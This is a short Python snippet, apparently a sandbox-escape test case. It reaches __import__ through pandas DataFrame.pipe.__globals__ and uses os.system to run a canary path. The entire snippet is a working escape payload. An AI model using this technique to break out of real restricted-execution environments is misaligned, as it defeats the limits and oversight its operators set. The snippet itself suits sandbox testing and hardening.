# reaches: the globals behind a DataFrame method hold the import function
import pandas as pd
pd.DataFrame.pipe.__globals__["__builtins__"]["__import__"]("os").system("/srv/canary")
